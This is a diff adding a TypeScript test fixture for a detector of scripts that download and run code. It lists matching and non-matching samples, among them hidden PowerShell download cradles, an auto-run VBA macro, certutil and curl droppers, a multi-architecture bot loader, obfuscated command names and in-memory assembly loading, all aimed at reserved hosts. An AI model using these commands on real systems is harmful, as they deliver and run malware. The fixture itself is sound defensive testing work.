@@ -1,0 +1,111 @@
+// Code that is fetched and run. Hosts and addresses are reserved ones, nothing is fetched.
+import type { TextCases } from './case.ts'
+
+export const DOWNLOADS: TextCases = {
+  script_starts_hidden_cradle: {
+    hits: {
+      'a task of a batch file': ['batch', 'powershell -w hidden -c "iex (irm https://files.example/a)"'],
+      'a macro': [
+        'vba',
+        'Sub AutoOpen()\nShell "powershell -windowstyle hidden IEX(New-Object Net.WebClient).DownloadString(\'http://files.example/a\')"\nEnd Sub',
+      ],
+    },
+    misses: {
+      'the installer of a package manager': ['batch', 'powershell -c "irm https://get.scoop.sh | iex"'],
+      'a script of the own disk behind a hidden window': ['batch', 'powershell -w hidden -File C:\\it\\report.ps1'],
+      'a visible one': ['batch', 'powershell -c "iex (irm https://files.example/a)"'],
+    },
+  },
+  script_drops_fetched_program: {
+    hits: {
+      'fetched and decoded by a tool of certificates': [
+        'batch',
+        'certutil -urlcache -split -f http://files.example/e.txt %PUBLIC%\\e.exe\nstart %PUBLIC%\\e.exe',
+      ],
+      'fetched, hidden, started': [
+        'batch',
+        'curl -s -o %TEMP%\\a.exe http://203.0.113.9/a.exe\nattrib +h %TEMP%\\a.exe\n%TEMP%\\a.exe',
+      ],
+    },
+    misses: {
+      'an installer of a known project': [
+        'batch',
+        'bitsadmin /transfer p https://www.python.org/p.exe %TEMP%\\p.exe\n%TEMP%\\p.exe /quiet',
+      ],
+      'one that compares its digest': [
+        'powershell',
+        'iwr http://files.example/a.exe -OutFile a.exe\nif ((Get-FileHash a.exe).Hash -ne $h) { throw 1 }\nStart-Process a.exe',
+      ],
+      'fetched, and something else started': [
+        'batch',
+        'curl -o data.zip https://files.example/data.zip\nstart app.exe',
+      ],
+    },
+  },
+  script_loads_bot: {
+    hits: {
+      'one for each processor': [
+        'shell',
+        'cd /tmp || cd /var/run || cd /mnt\nwget http://203.0.113.9/b.mips; chmod +x b.mips; ./b.mips\nwget http://203.0.113.9/b.arm7; chmod +x b.arm7; ./b.arm7',
+      ],
+    },
+    misses: {
+      'a release script': [
+        'shell',
+        'for a in mips arm7 x86; do curl -O https://github.com/o/p/releases/p-$a; chmod +x p-$a; done',
+      ],
+      'an installer of one program': [
+        'shell',
+        'curl -fsSL https://files.example/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool install',
+      ],
+    },
+  },
+  script_disguises_its_download: {
+    hits: {
+      'words from variables': [
+        'batch',
+        'set a=power\nset b=shell\n%a%%b% -c "iwr https://files.example/a.exe -OutFile a.exe; saps a.exe"',
+      ],
+    },
+    misses: {
+      'an interpreter in a variable': [
+        'batch',
+        'set PS=powershell.exe\n%PS% -c "iwr https://files.example/a.exe -OutFile a.exe; saps a.exe"',
+      ],
+      'words in pieces that fetch nothing': ['batch', 'set a=power\nset b=shell\n%a%%b% -c "Get-Date"'],
+    },
+  },
+  script_loads_fetched_assembly: {
+    hits: {
+      'text turned into an assembly': [
+        'powershell',
+        '$b = [Convert]::FromBase64String((New-Object Net.WebClient).DownloadString("https://files.example/a"))\n[Reflection.Assembly]::Load($b)',
+      ],
+    },
+    misses: {
+      'a library of the own module': [
+        'powershell',
+        '[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("$PSScriptRoot\\a.dll"))',
+      ],
+      'base64 and a download, no assembly': [
+        'powershell',
+        '$t = [Convert]::FromBase64String($secret)\nInvoke-WebRequest https://files.example/a -OutFile a',
+      ],
+    },
+  },
+  source_runs_fetched_code: {
+    hits: {
+      'a build script in Rust': [
+        'source',
+        'fn main() { let _ = Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/a.sh | sh &").spawn(); }',
+      ],
+    },
+    misses: {
+      'the installer of a known project': [
+        'source',
+        'exec.Command("sh", "-c", "curl --proto =https -sSf https://sh.rustup.rs | sh")',
+      ],
+      'a message that says how': ['source', 'println!("install it: curl -s https://tool.example/a.sh | sh");'],
+    },
+  },
+}
